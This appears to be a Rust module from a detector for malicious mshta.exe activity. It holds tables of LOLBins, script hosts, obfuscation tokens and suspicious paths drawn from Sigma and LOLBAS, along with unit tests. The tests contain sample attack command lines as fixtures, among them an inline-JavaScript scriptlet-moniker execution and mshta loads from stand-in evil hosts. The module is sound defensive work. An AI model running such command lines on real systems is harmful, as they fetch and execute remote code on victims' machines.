//! Detection knowledge: every table of names, extensions, folders, ports,
//! networks and command-line tokens the detector knows, each once, with the
//! small lookups that read them. Scoring (`score`), the triage checklist
//! (`triage`) and the output formats all ask here, so a binary that scores
//! as a LOLBin is also the one whose command line triage asks to review.
//!
//! Sources are public detection content: SigmaHQ rules (cited by rule id),
//! Elastic detection rules, Splunk security content, the LOLBAS project
//! (`lolbas-project.github.io`), Atomic Red Team and MITRE ATT&CK
//! (T1218.005, analytic AN1397). Which entries are listed is ours.
//!
//! Names and paths may come in any case and, for names, as a full image
//! path; command-line matchers take the lower-cased command line (scoring
//! lower-cases it once).

use crate::names::{basename, lower};
use std::borrow::Cow;

// ---------------------------------------------------------------------------
// Binaries.

/// mshta's own image name.
pub(crate) const MSHTA: &str = "mshta.exe";

/// PowerShell hosts. Triage asks for their script block log (event 4104) as
/// well as their command line. Source: Sigma 03cc0c25 (pwsh), LOLBAS.
pub(crate) const POWERSHELL: &[&str] = &["powershell.exe", "pwsh.exe", "powershell_ise.exe"];

/// The Windows command shell and script hosts (besides PowerShell): what HTA
/// payloads hand over to, and what launches mshta from a script. Source:
/// Sigma 03cc0c25 (suspicious mshta child), e32f92d1.
pub(crate) const SCRIPT_HOSTS: &[&str] = &["cmd.exe", "wscript.exe", "cscript.exe"];

/// POSIX shells on Windows (WSL, Git, MSYS). Source: Sigma 03cc0c25
/// (`sh.exe`, `bash.exe`), LOLBAS Wsl.yml.
pub(crate) const POSIX_SHELLS: &[&str] = &["bash.exe", "sh.exe", "wsl.exe"];

/// Living-off-the-land binaries: signed Microsoft binaries that download,
/// execute, compile, proxy execution or persist, as the LOLBAS project lists
/// them (one `<Name>.yml` each) and public rules flag as children of mshta
/// (Sigma 03cc0c25, Elastic 48e60a73, Splunk 60023bb6).
pub(crate) const LOLBINS: &[&str] = &[
    // Execution proxies.
    "mshta.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "hh.exe",
    "msiexec.exe",
    "odbcconf.exe",
    "pcalua.exe",
    "forfiles.exe",
    "cmstp.exe",
    "msdt.exe",
    "wmic.exe",
    "msxsl.exe",
    // .NET: build, compile and register assemblies.
    "msbuild.exe",
    "csc.exe",
    "vbc.exe",
    "installutil.exe",
    "regasm.exe",
    "regsvcs.exe",
    // Download and copy.
    "certutil.exe",
    "bitsadmin.exe",
    "curl.exe",
    "certreq.exe",
    "finger.exe",
    "ftp.exe",
    "esentutl.exe",
    "expand.exe",
    "extrac32.exe",
    "tar.exe",
    // Not part of Windows, but ports of wget (GnuWin32, Git, MSYS) are the
    // same download primitive as curl.
    "wget.exe",
    // Persistence and configuration.
    "schtasks.exe",
    "at.exe",
    "reg.exe",
    "regedit.exe",
    "sc.exe",
];

/// Discovery commands: what hands-on-keyboard operators run first. Not
/// LOLBins in the LOLBAS sense, but from an HTA they are follow-on activity
/// worth reading (Sigma: whoami / net / nltest recon rules; `nslookup` also
/// fetches ClickFix payloads through DNS TXT records).
pub(crate) const DISCOVERY: &[&str] = &["net.exe", "net1.exe", "whoami.exe", "nltest.exe", "nslookup.exe"];

/// Office and document applications. mshta under one of them is a macro or an
/// exploit (Sigma 438025f9 and the Office child-process rule's parents,
/// Elastic a624863f, 32f4675e, Splunk 6078fa20).
pub(crate) const OFFICE: &[&str] = &[
    "winword.exe",
    "excel.exe",
    "powerpnt.exe",
    "outlook.exe",
    "onenote.exe",
    "onenotem.exe",
    "eqnedt32.exe",
    "mspub.exe",
    "visio.exe",
    "msaccess.exe",
    "wordpad.exe",
];

/// Web browsers: mshta under one means a downloaded HTA was opened (Elastic
/// 7dc45430; Palo Alto Cortex "mshta spawned from a browser").
pub(crate) const BROWSERS: &[&str] =
    &["chrome.exe", "msedge.exe", "firefox.exe", "iexplore.exe", "brave.exe", "opera.exe"];

/// WMI hosts that create processes for remote callers and event
/// subscriptions (Sigma 8a582fe2; Splunk 4d33a488, 95a455f0).
pub(crate) const WMI_HOSTS: &[&str] = &["wmiprvse.exe", "scrcons.exe"];

/// The service host that activates DCOM servers, and the service group it
/// runs for that (`svchost.exe -k DcomLaunch`): LethalHTA starts mshta
/// through it (Elastic 622ecb68; Sigma ed5d72a6).
pub(crate) const DCOM_HOST: &str = "svchost.exe";
/// See [`DCOM_HOST`].
pub(crate) const DCOM_LAUNCH_GROUP: &str = "dcomlaunch";

/// Execution proxies that also launch mshta from scripts (with the shells and
/// script hosts, the "script host" parents). Source: Sigma e32f92d1, 3a6586ad.
pub(crate) const PROXY_LAUNCHERS: &[&str] = &["regsvr32.exe", "rundll32.exe", "hh.exe"];

/// rundll32 entry points that run HTML applications without naming mshta
/// (mshtml `RunHTMLApplication`, url.dll `FileProtocolHandler`). Source:
/// TRR0016, AtomicTestHarnesses.
pub(crate) const RUNDLL32_HTML_HANDLERS: &[&str] = &["runhtmlapplication", "fileprotocolhandler"];

/// The desktop shell: the parent of a double-click.
pub(crate) const EXPLORER: &str = "explorer.exe";

/// The console host every console process starts: not worth a triage line.
pub(crate) const CONSOLE_HOST: &str = "conhost.exe";

/// The .NET runtime's modules: loaded into mshta, they mean a
/// DotNetToJScript-style payload (Sigma 4508a70e, e0b06658; LOLBAS Mshta.yml).
pub(crate) const CLR_MODULES: &[&str] = &["clr.dll", "clrjit.dll", "mscoree.dll", "mscoreei.dll", "mscorlib.ni.dll"];

/// The lower-cased file name of an image path or name.
pub(crate) fn image_key(image: &str) -> Cow<'_, str> {
    lower(basename(image))
}

fn listed(table: &[&str], image: &str) -> bool {
    table.contains(&image_key(image).as_ref())
}

/// A PowerShell host.
pub(crate) fn is_powershell(image: &str) -> bool {
    listed(POWERSHELL, image)
}

/// A shell, script host, LOLBin or discovery command: a descendant that
/// scores `child_shell_or_lolbin` and whose command line triage asks to
/// review.
pub(crate) fn is_shell_or_lolbin(image: &str) -> bool {
    let k = image_key(image);
    [POWERSHELL, SCRIPT_HOSTS, POSIX_SHELLS, LOLBINS, DISCOVERY].iter().any(|t| t.contains(&k.as_ref()))
}

/// A shell or script host that launches mshta from a script: PowerShell,
/// cmd, wscript, cscript and the execution proxies regsvr32, rundll32, hh
/// (the `parent_script_host` reason).
pub(crate) fn is_launcher_script_host(image: &str) -> bool {
    let k = image_key(image);
    [POWERSHELL, SCRIPT_HOSTS, PROXY_LAUNCHERS].iter().any(|t| t.contains(&k.as_ref()))
}

/// An Office or document application.
pub(crate) fn is_office(image: &str) -> bool {
    listed(OFFICE, image)
}

/// A web browser.
pub(crate) fn is_browser(image: &str) -> bool {
    listed(BROWSERS, image)
}

/// A WMI host.
pub(crate) fn is_wmi_host(image: &str) -> bool {
    listed(WMI_HOSTS, image)
}

/// The service host, whatever its group.
pub(crate) fn is_service_host(image: &str) -> bool {
    image_key(image) == DCOM_HOST
}

/// The DCOM launcher: svchost running the DcomLaunch group. `embedding`:
/// the child was started with `-Embedding`, so any svchost parent is the
/// DCOM activation even when its command line is not known.
pub(crate) fn is_dcom_launcher(image: &str, command_line: &str, embedding: bool) -> bool {
    is_service_host(image) && (lower(command_line).contains(DCOM_LAUNCH_GROUP) || embedding)
}

/// rundll32 running an HTML application through one of its handlers.
pub(crate) fn is_rundll32_html_handler(image: &str, command_line: &str) -> bool {
    let cmd = lower(command_line);
    image_key(image) == "rundll32.exe" && RUNDLL32_HTML_HANDLERS.iter().any(|h| cmd.contains(h))
}

/// Explorer.
pub(crate) fn is_explorer(image: &str) -> bool {
    image_key(image) == EXPLORER
}

/// The console host.
pub(crate) fn is_console_host(image: &str) -> bool {
    image_key(image) == CONSOLE_HOST
}

/// A .NET runtime module.
pub(crate) fn is_clr_module(path: &str) -> bool {
    listed(CLR_MODULES, path)
}

// ---------------------------------------------------------------------------
// Files.

/// Executable code: programs, libraries, drivers, installers, Control Panel
/// items and compiled help. Source: Sigma f0540f7e, 7d604714 (suspicious
/// files written), LOLBAS Hh.yml (chm).
pub(crate) const EXECUTABLE_EXTENSIONS: &[&str] =
    &["exe", "dll", "com", "scr", "pif", "cpl", "ocx", "sys", "msi", "msp", "jar", "chm"];

/// Scripts: PowerShell, batch, Windows Script Host, HTAs and scriptlets,
/// and shortcuts (which run a command line). Source: Sigma 654fcc6d,
/// f0540f7e.
pub(crate) const SCRIPT_EXTENSIONS: &[&str] =
    &["ps1", "psm1", "psd1", "bat", "cmd", "vbs", "vbe", "js", "jse", "wsf", "wsh", "hta", "sct", "lnk"];

/// Archives and disk images: how payloads travel (and skip Mark-of-the-Web).
/// Source: Sigma 7d604714; Elastic "Suspicious ISO/IMG/VHD mount" rules.
pub(crate) const ARCHIVE_EXTENSIONS: &[&str] = &["zip", "rar", "7z", "cab", "iso", "img", "vhd", "vhdx"];

/// Extensions mshta is meant to run: HTML applications and pages. A target
/// with another extension (outside `.exe`, mshta's own) is a polyglot
/// (Sigma cc7abbd0; TRR0016).
pub(crate) const HTA_EXTENSIONS: &[&str] = &["hta", "htm", "html", "mht", "mhtml"];

/// File-name prefixes of files Windows components write routinely:
/// PowerShell writes and deletes an execution-policy probe script
/// (`__PSScriptPolicyTest_*.ps1`) at every start.
pub(crate) const ROUTINE_FILE_PREFIXES: &[&str] = &["__psscriptpolicytest_"];

/// The lower-cased extension of a path's file name, without the dot.
pub(crate) fn extension(path: &str) -> Option<String> {
    let name = image_key(path);
    let (_, ext) = name.rsplit_once('.')?;
    (!ext.is_empty()).then(|| ext.to_string())
}

/// A file Windows writes routinely (not worth scoring or collecting).
pub(crate) fn is_routine_file(path: &str) -> bool {
    let name = image_key(path);
    ROUTINE_FILE_PREFIXES.iter().any(|p| name.starts_with(p))
}

/// An executable, script or archive, other than a routine file: a written
/// file worth scoring (`file_dropped_executable`) and collecting.
pub(crate) fn is_risky_file(path: &str) -> bool {
    let risky = extension(path).is_some_and(|e| {
        [EXECUTABLE_EXTENSIONS, SCRIPT_EXTENSIONS, ARCHIVE_EXTENSIONS].iter().any(|t| t.contains(&e.as_str()))
    });
    risky && !is_routine_file(path)
}

/// Whether a (lower-cased) command line names an `.hta` file.
pub(crate) fn mentions_hta(cmd: &str) -> bool {
    cmd.contains(".hta")
}

/// Whether a file mshta runs has an HTML-application extension (or none).
pub(crate) fn is_hta_like(path: &str) -> bool {
    extension(path).is_none_or(|e| HTA_EXTENSIONS.contains(&e.as_str()) || e == "exe")
}

// ---------------------------------------------------------------------------
// Paths.

/// The per-user and all-users Startup folders (both end in this): files
/// written there run at every logon (Elastic 440e2db4; protections a85000c8).
pub(crate) const STARTUP_DIR: &str = "\\start menu\\programs\\startup\\";

/// User-writable folders a command line may name, with the name shown, most
/// specific first (the first match is shown). Source: Sigma e32f92d1,
/// cea72823, 1228c958; Elastic 181f6b23.
pub(crate) const USER_WRITABLE_DIRS: &[(&str, &str)] = &[
    (STARTUP_DIR, "Startup"),
    ("\\downloads\\", "Downloads"),
    ("\\appdata\\local\\temp\\", "Temp"),
    ("\\windows\\temp\\", "Windows\\Temp"),
    ("%temp%", "Temp"),
    ("\\users\\public\\", "Public"),
    ("\\programdata\\", "ProgramData"),
    ("\\appdata\\", "AppData"),
    ("\\perflogs\\", "PerfLogs"),
];

/// Trees any user can write to: a process image under one runs from a
/// user-writable place (Elastic 48e60a73; protections 83da4fac).
pub(crate) const USER_WRITABLE_ROOTS: &[&str] = &["\\users\\", "\\windows\\temp\\", "\\programdata\\", "\\perflogs\\"];

/// Temporary folders archive tools extract into, with the tool: an HTA run
/// from one was opened straight out of an archive (Sigma d4ca7c59; Elastic
/// 181f6b23).
pub(crate) const ARCHIVE_TEMP_DIRS: &[(&str, &str)] = &[
    ("\\temp\\7z", "7-Zip"),
    ("\\temp\\rar$", "WinRAR"),
    ("\\temp\\temp1_", "Windows zip"),
    ("\\temp\\temp2_", "Windows zip"),
    (".zip\\", "zip"),
    ("\\temp\\bnz.", "archive"),
];

/// Where mshta lives; a copy elsewhere is evasion (Sigma e32f92d1; LOLBAS
/// Mshta.yml Full_Path).
pub(crate) const SYSTEM_DIRS: &[&str] = &["\\windows\\system32\\", "\\windows\\syswow64\\"];

/// A path in a Startup folder.
pub(crate) fn is_startup_path(path: &str) -> bool {
    lower(path).contains(STARTUP_DIR)
}

/// The first user-writable folder a (lower-cased) command line names.
pub(crate) fn user_writable_dir(cmd: &str) -> Option<&'static str> {
    USER_WRITABLE_DIRS.iter().find(|(needle, _)| cmd.contains(needle)).map(|&(_, name)| name)
}

/// A path under a user-writable tree.
pub(crate) fn in_user_writable_tree(path: &str) -> bool {
    let l = lower(path);
    USER_WRITABLE_ROOTS.iter().any(|r| l.contains(r))
}

/// The archive tool whose temporary folder a (lower-cased) command line names.
pub(crate) fn archive_temp_dir(cmd: &str) -> Option<&'static str> {
    ARCHIVE_TEMP_DIRS.iter().find(|(needle, _)| cmd.contains(needle)).map(|&(_, name)| name)
}

/// A full path outside System32 and SysWOW64 (a bare name says nothing).
pub(crate) fn outside_system_dirs(image: &str) -> bool {
    let l = lower(image);
    l.contains('\\') && !SYSTEM_DIRS.iter().any(|d| l.contains(d))
}

// ---------------------------------------------------------------------------
// Command-line indicators (all matched on the lower-cased command line).

/// Protocol handlers that make mshta run inline script with no file
/// (Sigma 67f113fa, cc7abbd0; Splunk a0873b32; TRR0016; Atomic T1218.005).
pub(crate) const INLINE_HANDLERS: &[&str] = &["javascript:", "vbscript:", "about:"];

/// Script objects and methods through which inline script reaches the system
/// (shells, downloads, the registry), with the name shown. Source: Elastic
/// 181f6b23; Sigma 2c28c248; LOLBAS Mshta.yml.
pub(crate) const SCRIPT_OBJECT_TOKENS: &[(&str, &str)] = &[
    ("getobject", "GetObject"),
    ("activexobject", "ActiveXObject"),
    ("wscript.shell", "WScript.Shell"),
    ("createobject", "CreateObject"),
    (".run", ".Run"),
    (".exec", ".Exec"),
    ("eval(", "eval()"),
    ("execute(", "Execute()"),
    ("shell.application", "Shell.Application"),
    ("regread", "RegRead"),
    ("regwrite", "RegWrite"),
];

/// The scriptlet moniker (`GetObject("script:https://…")`), matched only
/// where it is not the tail of `vbscript:` or `javascript:`.
pub(crate) const SCRIPT_MONIKER: &str = "script:";

/// Obfuscation tokens, with the technique shown (one name may have several
/// tokens). Source: Sigma ac20ae82; Elastic 37148ae6; Invoke-Obfuscation.
pub(crate) const OBFUSCATION_TOKENS: &[(&str, &str)] = &[
    ("%2", "percent-encoding"),
    ("%3c", "percent-encoding"),
    ("chr(", "Chr()"),
    ("strreverse", "StrReverse"),
    ("fromcharcode", "fromCharCode"),
    ("^", "caret escapes"),
];

/// URL schemes of remote content, with the family shown (Sigma b98d0db6;
/// Elastic 181f6b23, ee7726cc; Splunk 9b3af1e6).
pub(crate) const URL_SCHEMES: &[(&str, &str)] =
    &[("https://", "http"), ("http://", "http"), ("ftps://", "ftp"), ("ftp://", "ftp")];

/// Markers of WebDAV paths (`\\host@SSL\DavWWWRoot\...`): remote content
/// without a URL scheme (LOLBAS Mshta.yml; Atomic T1218.005 test 4).
pub(crate) const WEBDAV_MARKERS: &[&str] = &["@ssl", "davwwwroot"];

/// How COM starts a server process (`mshta.exe -Embedding`): LethalHTA
/// lateral movement (Elastic 622ecb68; Sigma ed5d72a6; Splunk 4d33a488).
pub(crate) const EMBEDDING_FLAGS: &[&str] = &["-embedding", "/embedding"];

/// The inline-script handler a command line uses.
pub(crate) fn inline_handler(cmd: &str) -> Option<&'static str> {
    INLINE_HANDLERS.iter().find(|h| cmd.contains(*h)).copied()
}

/// `script:` used as a moniker, not as the tail of a protocol handler.
pub(crate) fn has_script_moniker(cmd: &str) -> bool {
    cmd.match_indices(SCRIPT_MONIKER)
        .any(|(i, _)| !cmd[..i].chars().next_back().is_some_and(|c| c.is_ascii_alphabetic()))
}

/// The script objects a command line names, in table order, then the
/// moniker.
pub(crate) fn script_objects(cmd: &str) -> Vec<&'static str> {
    let mut found: Vec<&str> =
        SCRIPT_OBJECT_TOKENS.iter().filter(|(tok, _)| cmd.contains(tok)).map(|&(_, name)| name).collect();
    if has_script_moniker(cmd) {
        found.push("script: moniker");
    }
    found
}

/// The obfuscation techniques a command line shows, each once.
pub(crate) fn obfuscation(cmd: &str) -> Vec<&'static str> {
    let mut found: Vec<&str> =
        OBFUSCATION_TOKENS.iter().filter(|(tok, _)| cmd.contains(tok)).map(|&(_, name)| name).collect();
    found.dedup();
    found
}

/// Started as a COM server.
pub(crate) fn has_embedding_flag(cmd: &str) -> bool {
    EMBEDDING_FLAGS.iter().any(|f| cmd.contains(f))
}

/// The kind of remote content a command line loads: `http`, `ftp`,
/// `WebDAV` or `UNC path`.
pub(crate) fn remote_target(cmd: &str) -> Option<&'static str> {
    if let Some(&(_, family)) = URL_SCHEMES.iter().find(|(scheme, _)| cmd.contains(scheme)) {
        return Some(family);
    }
    if WEBDAV_MARKERS.iter().any(|m| cmd.contains(m)) {
        return Some("WebDAV");
    }
    // UNC: `\\host\share`, but not the `\\?\` and `\\.\` device prefixes.
    let b = cmd.as_bytes();
    let unc = b.windows(3).any(|w| w[0] == b'\\' && w[1] == b'\\' && w[2] != b'?' && w[2] != b'.' && w[2] != b'\\');
    unc.then_some("UNC path")
}

/// The host of the first http(s)/ftp(s) URL in a command line.
pub(crate) fn url_host(cmd: &str) -> Option<&str> {
    let start = URL_SCHEMES.iter().filter_map(|(s, _)| cmd.find(s).map(|i| i + s.len())).min()?;
    let rest = &cmd[start..];
    let end = rest.find(['/', ':', '"', '\'', ')', ' ', '?', '#', '\\']).unwrap_or(rest.len());
    let host = &rest[..end];
    let host = host.rsplit('@').next().unwrap_or(host);
    (!host.is_empty()).then_some(host)
}

// ---------------------------------------------------------------------------
// Network.

/// Web ports: retrieval over them is ordinary; other public ports suggest C2
/// or tunnelling (ATT&CK AN0922).
pub(crate) const WEB_PORTS: &[u16] = &[80, 443];

/// The first port of the IANA dynamic (ephemeral) range. DCOM answers on a
/// dynamic port and the caller connects from one: an inbound connection
/// between two such ports to an `-Embedding` mshta is the DCOM activation
/// (Elastic 622ecb68).
pub(crate) const DYNAMIC_PORT_MIN: u16 = 49152;

/// A web port.
pub(crate) fn is_web_port(port: u16) -> bool {
    WEB_PORTS.contains(&port)
}

/// A port of the dynamic range.
pub(crate) fn is_dynamic_port(port: u16) -> bool {
    port >= DYNAMIC_PORT_MIN
}

/// Private, loopback, link-local, shared (CGNAT), multicast and other
/// non-routable addresses (RFC 1918, 6598, 3927, 4193, 4291).
pub(crate) fn is_internal_ip(ip: &str) -> bool {
    let ip = ip.trim().trim_start_matches("::ffff:");
    if let Some(v4) = parse_v4(ip) {
        let [a, b, ..] = v4;
        return a == 10
            || a == 127
            || a == 0
            || (a == 172 && (16..=31).contains(&b))
            || (a == 192 && b == 168)
            || (a == 169 && b == 254)
            || (a == 100 && (64..=127).contains(&b))
            || a >= 224;
    }
    let l = lower(ip);
    l == "::1"
        || l == "0:0:0:0:0:0:0:1"
        || l == "::"
        || l.starts_with("fe80")
        || l.starts_with("fc")
        || l.starts_with("fd")
        || l.starts_with("ff")
}

fn parse_v4(s: &str) -> Option<[u8; 4]> {
    let mut out = [0u8; 4];
    let mut parts = s.split('.');
    for slot in &mut out {
        *slot = parts.next()?.parse().ok()?;
    }
    parts.next().is_none().then_some(out)
}

// ---------------------------------------------------------------------------
// The reference page.

/// The tables as the reference page lists them: a title, the reasons (or
/// triage) that read it, and its entries.
pub(crate) fn tables() -> Vec<(&'static str, &'static str, Vec<&'static str>)> {
    let names = |t: &[(&'static str, &'static str)]| t.iter().map(|&(needle, _)| needle).collect::<Vec<_>>();
    let list = |t: &[&'static str]| t.to_vec();
    vec![
        (
            "PowerShell hosts",
            "`child_shell_or_lolbin`, `parent_script_host`; triage asks for script block logs",
            list(POWERSHELL),
        ),
        ("Shell and script hosts", "`child_shell_or_lolbin`, `parent_script_host`", list(SCRIPT_HOSTS)),
        ("POSIX shells", "`child_shell_or_lolbin`", list(POSIX_SHELLS)),
        ("Living-off-the-land binaries (LOLBAS)", "`child_shell_or_lolbin`", list(LOLBINS)),
        ("Discovery commands", "`child_shell_or_lolbin`", list(DISCOVERY)),
        ("Execution proxies that launch mshta", "`parent_script_host`", list(PROXY_LAUNCHERS)),
        ("rundll32 HTML handlers (parent command line)", "`parent_rundll32_handler`", list(RUNDLL32_HTML_HANDLERS)),
        ("Office and document applications", "`parent_office`, `ancestor_suspicious`", list(OFFICE)),
        ("Web browsers", "`parent_browser`", list(BROWSERS)),
        ("WMI hosts", "`parent_wmi`, `ancestor_suspicious`", list(WMI_HOSTS)),
        ("DCOM launcher (svchost group)", "`parent_dcom`", vec![DCOM_HOST, DCOM_LAUNCH_GROUP]),
        (".NET runtime modules", "`clr_loaded`", list(CLR_MODULES)),
        ("Executable extensions", "`file_dropped_executable`; triage collects them", list(EXECUTABLE_EXTENSIONS)),
        ("Script extensions", "`file_dropped_executable`; triage collects them", list(SCRIPT_EXTENSIONS)),
        (
            "Archive and disk-image extensions",
            "`file_dropped_executable`; triage collects them",
            list(ARCHIVE_EXTENSIONS),
        ),
        (
            "HTML-application extensions",
            "`cmdline_non_hta_target`, for any other extension but `.exe`",
            list(HTA_EXTENSIONS),
        ),
        (
            "Routine file-name prefixes (never scored or collected)",
            "`file_dropped_executable`",
            list(ROUTINE_FILE_PREFIXES),
        ),
        ("Startup folder", "`file_in_startup`; triage", vec![STARTUP_DIR]),
        ("User-writable folders (command line)", "`cmdline_user_writable_path`", names(USER_WRITABLE_DIRS)),
        ("User-writable trees (process images)", "`child_in_user_folder`", list(USER_WRITABLE_ROOTS)),
        ("Archive tools' temporary folders", "`cmdline_archive_temp_path`", names(ARCHIVE_TEMP_DIRS)),
        ("mshta's own folders", "`unusual_image_path`", list(SYSTEM_DIRS)),
        ("Inline script handlers", "`cmdline_inline_script`", list(INLINE_HANDLERS)),
        ("Script objects", "`cmdline_script_object`, with the `script:` moniker", names(SCRIPT_OBJECT_TOKENS)),
        ("Obfuscation tokens", "`cmdline_obfuscation`", names(OBFUSCATION_TOKENS)),
        (
            "URL schemes",
            "`cmdline_remote_target`, `cmdline_raw_ip_url`, `dns_matches_cmdline_host`",
            names(URL_SCHEMES),
        ),
        ("WebDAV markers", "`cmdline_remote_target`, as do UNC paths", list(WEBDAV_MARKERS)),
        ("COM server flags", "`cmdline_embedding`, `parent_dcom`, `dcom_inbound`", list(EMBEDDING_FLAGS)),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn binaries_in_any_case_and_as_paths() {
        assert!(is_shell_or_lolbin("C:\\Windows\\System32\\CertUtil.exe"));
        assert!(is_shell_or_lolbin("powershell_ise.exe"));
        assert!(is_shell_or_lolbin("whoami.exe"));
        assert!(is_shell_or_lolbin("C:\\Windows\\System32\\cmd.exe"));
        assert!(!is_shell_or_lolbin("calc.exe"));
        assert!(!is_shell_or_lolbin("wmiprvse.exe"), "a WMI host, not something mshta starts");
        assert!(is_shell_or_lolbin("cmstp.exe") && is_shell_or_lolbin("wsl.exe"));
        assert!(is_powershell("C:\\x\\PWSH.EXE") && !is_powershell("cmd.exe"));
        assert!(is_office("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"));
        assert!(is_office("onenotem.exe") && is_office("wordpad.exe") && !is_office("notepad.exe"));
        assert!(is_browser("msedge.exe") && !is_browser("explorer.exe"));
        assert!(is_wmi_host("WmiPrvSE.exe") && is_wmi_host("scrcons.exe"));
        assert!(is_launcher_script_host("regsvr32.exe") && is_launcher_script_host("wscript.exe"));
        assert!(!is_launcher_script_host("certutil.exe"));
        assert!(is_explorer("C:\\Windows\\Explorer.EXE") && is_console_host("conhost.exe"));
        assert!(is_clr_module("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"));
    }

    #[test]
    fn every_binary_table_is_lower_case_exe_names() {
        let tables = [POWERSHELL, SCRIPT_HOSTS, POSIX_SHELLS, LOLBINS, DISCOVERY, OFFICE, BROWSERS, WMI_HOSTS];
        for t in tables {
            for name in t {
                assert!(name.ends_with(".exe") && *name == name.to_ascii_lowercase(), "{name}");
            }
        }
        let all: Vec<&str> = [POWERSHELL, SCRIPT_HOSTS, POSIX_SHELLS, LOLBINS, DISCOVERY].concat();
        let mut unique = all.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), all.len(), "a binary listed in two families");
    }

    #[test]
    fn dcom_and_rundll32_launchers() {
        let dcom = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p";
        assert!(is_dcom_launcher("C:\\Windows\\System32\\svchost.exe", dcom, false));
        assert!(!is_dcom_launcher("svchost.exe", "svchost.exe -k netsvcs", false));
        assert!(is_dcom_launcher("svchost.exe", "", true));
        assert!(is_rundll32_html_handler(
            "rundll32.exe",
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""
        ));
        assert!(is_rundll32_html_handler("RUNDLL32.EXE", "rundll32 url.dll,FileProtocolHandler c:\\a.hta"));
        assert!(!is_rundll32_html_handler("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL"));
    }

    #[test]
    fn risky_and_routine_files() {
        for p in [
            "C:\\Users\\a\\AppData\\Local\\Temp\\x.EXE",
            "C:\\Users\\a\\Downloads\\invoice.img",
            "C:\\ProgramData\\a.sct",
            "C:\\Users\\a\\help.chm",
            "C:\\Users\\a\\AppData\\Local\\Temp\\x.cab",
        ] {
            assert!(is_risky_file(p), "{p}");
        }
        for p in [
            "C:\\Users\\a\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12.ps1",
            "C:\\Users\\a\\notes.txt",
            "C:\\Users\\a\\exe",
            "C:\\Users\\a\\image.png",
        ] {
            assert!(!is_risky_file(p), "{p}");
        }
        assert!(is_routine_file("c:\\x\\__psscriptpolicytest_1.psm1"));
        assert_eq!(extension("C:\\a\\B.HTA"), Some("hta".into()));
        assert_eq!(extension("C:\\a.b\\noext"), None);
        assert!(is_hta_like("c:\\a\\b.hta") && is_hta_like("c:\\a\\b") && !is_hta_like("c:\\a\\b.png"));
    }

    #[test]
    fn folders() {
        assert!(is_startup_path(
            "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.hta"
        ));
        assert!(is_startup_path("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\x.lnk"));
        assert!(!is_startup_path("C:\\Users\\a\\Start Menu\\x.lnk"));
        assert_eq!(user_writable_dir("mshta c:\\users\\public\\a.hta"), Some("Public"));
        assert_eq!(user_writable_dir("mshta c:\\users\\a\\appdata\\local\\temp\\a.hta"), Some("Temp"));
        assert_eq!(user_writable_dir("mshta c:\\program files\\a.hta"), None);
        assert!(
            in_user_writable_tree("C:\\Users\\bob\\Desktop\\x.exe") && !in_user_writable_tree("C:\\Windows\\x.exe")
        );
        assert_eq!(archive_temp_dir("c:\\users\\a\\appdata\\local\\temp\\7zo1234\\a.hta"), Some("7-Zip"));
        assert!(
            outside_system_dirs("C:\\Users\\a\\mshta.exe") && !outside_system_dirs("C:\\Windows\\SysWOW64\\mshta.exe")
        );
        assert!(!outside_system_dirs("mshta.exe"));
    }

    #[test]
    fn command_line_indicators() {
        assert_eq!(inline_handler("mshta vbscript:execute(\"x\")"), Some("vbscript:"));
        assert_eq!(inline_handler("mshta c:\\a.hta"), None);
        let cmd = "mshta javascript:a=(getobject('script:https://x/a.sct')).exec();close();";
        assert_eq!(script_objects(cmd), vec!["GetObject", ".Exec", "script: moniker"]);
        assert_eq!(obfuscation("mshta %2e%3cscript chr(1)"), vec!["percent-encoding", "Chr()"]);
        assert!(has_embedding_flag("mshta.exe -embedding"));
        assert!(has_script_moniker("javascript:a=getobject('script:https://x/a.sct')"));
        assert!(!has_script_moniker("mshta vbscript:execute(1)"));
        assert!(!has_script_moniker("mshta javascript:alert(1)"));
    }

    #[test]
    fn remote_targets() {
        assert_eq!(remote_target("mshta https://evil.test/a.hta"), Some("http"));
        assert_eq!(remote_target("mshta ftp://evil.test/a.hta"), Some("ftp"));
        assert_eq!(remote_target("mshta \"\\\\10.0.0.5\\share\\a.hta\""), Some("UNC path"));
        assert_eq!(remote_target("mshta \\\\evil@ssl\\davwwwroot\\a.hta"), Some("WebDAV"));
        assert_eq!(remote_target("\\\\?\\c:\\windows\\system32\\mshta.exe c:\\a.hta"), None);
        assert_eq!(remote_target("mshta c:\\apps\\a.hta"), None);
    }

    #[test]
    fn url_hosts() {
        assert_eq!(url_host("mshta https://cdn.evil.example/a.hta"), Some("cdn.evil.example"));
        assert_eq!(url_host("mshta http://10.0.0.5:8080/x"), Some("10.0.0.5"));
        assert_eq!(url_host("mshta http://user@evil.example/x"), Some("evil.example"));
        assert_eq!(
            url_host("getobject('script:https://raw.githubusercontent.com/x')"),
            Some("raw.githubusercontent.com")
        );
        assert_eq!(url_host("mshta c:\\a.hta"), None);
    }

    #[test]
    fn ports() {
        assert!(is_web_port(443) && !is_web_port(8080));
        assert!(is_dynamic_port(49152) && !is_dynamic_port(49151));
    }

    #[test]
    fn internal_addresses() {
        for ip in [
            "10.1.2.3",
            "192.168.2.5",
            "172.20.0.1",
            "127.0.0.1",
            "100.64.0.1",
            "::1",
            "fe80::1",
            "::ffff:10.0.0.1",
            "0:0:0:0:0:0:0:1",
        ] {
            assert!(is_internal_ip(ip), "{ip}");
        }
        for ip in ["151.101.248.133", "8.8.8.8", "172.32.0.1", "2606:4700::1111"] {
            assert!(!is_internal_ip(ip), "{ip}");
        }
    }
}
